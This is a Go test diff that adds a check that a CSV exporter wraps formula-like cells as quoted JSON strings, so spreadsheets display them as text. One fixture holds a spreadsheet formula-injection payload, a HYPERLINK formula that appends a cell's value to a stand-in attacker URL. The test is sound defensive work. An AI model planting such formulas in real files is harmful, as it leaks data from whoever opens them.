@@ -532,3 +532,27 @@ func TestDirOutput(t *testing.T) {
 		t.Errorf("after an abort the parent holds %d entries", len(entries))
 	}
 }
+
+// TestCSVCellsASpreadsheetWouldRun: a text cell starting with =, +, -, @,
+// a tab or a carriage return (a hostile "=HYPERLINK(...)" from a pull
+// request) is written as a JSON string, which a spreadsheet shows as text,
+// and still reads back to the value.
+func TestCSVCellsASpreadsheetWouldRun(t *testing.T) {
+	files := map[string]string{}
+	for k, v := range tricky {
+		if !strings.HasPrefix(k, "content/acme/assets/") {
+			files[k] = v
+		}
+	}
+	files["content/acme/assets/kit/f1.toml"] = "name = '=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")'\nlabels = [\"@SUM(1)\", \"ok\"]\nnotes = \"+1 555 0150\"\ncount = -3\n"
+	files["content/acme/assets/kit/f2.toml"] = "name = \"-2+3\"\nnotes = \"\\tcmd\"\n"
+	s := openSite(t, writeSite(t, files))
+	m := run(t, s, export.Options{Format: "csv"})
+	want := "id,org,file,name,count,ratio,ok,bought,labels,ports,notes\n" +
+		`acme/assets/kit/f1,acme,content/acme/assets/kit/f1.toml,"""=HYPERLINK(\""http://evil.example/?\""&A1,\""open\"")""",-3,,,,"[""@SUM(1)"",""ok""]",,"""+1 555 0150"""` + "\n" +
+		`acme/assets/kit/f2,acme,content/acme/assets/kit/f2.toml,"""-2+3""",,,,,,,"""\tcmd"""` + "\n"
+	if got := string(m.files["assets/kit.csv"]); got != want {
+		t.Errorf("assets/kit.csv:\n%s\nwant\n%s", got, want)
+	}
+	roundTrip(t, s, m, "csv", "", "")
+}
